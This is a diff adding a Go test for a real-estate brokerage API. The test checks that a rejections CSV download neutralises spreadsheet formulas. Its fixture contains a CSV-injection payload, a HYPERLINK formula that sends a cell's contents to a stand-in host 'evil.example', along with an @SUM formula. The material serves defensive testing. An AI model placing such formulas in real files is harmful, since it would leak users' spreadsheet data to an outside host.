@@ -142,3 +142,47 @@ func TestMarketRoutes(t *testing.T) {
 	a.Do(agent, "GET", "/v1/market/communities/atlantis-on-mars/trends", nil).Expect(t, 404)
 	a.Do(apitest.User{}, "GET", "/v1/market/communities/"+marina.ID+"/trends", nil).Expect(t, 401)
 }
+
+// TestRejectionsCSVNeutralisesFormulas: the rejections download is opened in spreadsheets, and
+// its cells are whatever a data drop contained, so a cell a spreadsheet would evaluate is
+// prefixed with a single quote, which keeps the value whole.
+func TestRejectionsCSVNeutralisesFormulas(t *testing.T) {
+	a := apitest.New(t)
+	admin := a.Brokerage("Dune Realty")
+	const evil = `=HYPERLINK("http://evil.example/?"&A1,"click")`
+	data := `id,client_id,first_name,last_name,email,phone,client_type,nationality,preferred_areas,budget_range,property_preferences,source,status,assigned_agent,created_date,last_contact
+@SUM(1),CLT9,Huda,Saleh,"` + strings.ReplaceAll(evil, `"`, `""`) + `",+971 50 123 4567,Buyer,United Arab Emirates,['JVC'],1M-2M,['Apartment'],Bayut,Active,1,2025-01-01,2025-02-01
+`
+	rep := drop(t, a, admin.BrokerageID, "dune/evil.csv", data)
+	if rep.Totals.Rejected == 0 {
+		t.Fatalf("fixture: %+v", rep.Totals)
+	}
+	res := a.Do(admin, "GET", "/v1/ingestions/"+rep.ID+"/rejections.csv", nil).Expect(t, 200)
+	if cd := res.Header.Get("Content-Disposition"); cd != `attachment; filename="rejections-`+rep.ID+`.csv"` {
+		t.Fatalf("content disposition %q", cd)
+	}
+	rows, err := csv.NewReader(strings.NewReader(string(res.Body))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	var seen bool
+	for _, r := range rows[1:] {
+		for _, c := range r {
+			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
+				t.Errorf("cell %q would be evaluated by a spreadsheet", c)
+			}
+		}
+		if r[2] == "email" {
+			seen = true
+			if !strings.EqualFold(r[3], "'"+evil) { // the email is reported lower-cased
+				t.Errorf("email value %q, want the value whole behind a quote", r[3])
+			}
+			if !strings.HasPrefix(r[6], "'@SUM(1),CLT9") {
+				t.Errorf("row %q", r[6])
+			}
+		}
+	}
+	if !seen {
+		t.Fatalf("no email rejection in\n%s", res.Body)
+	}
+}
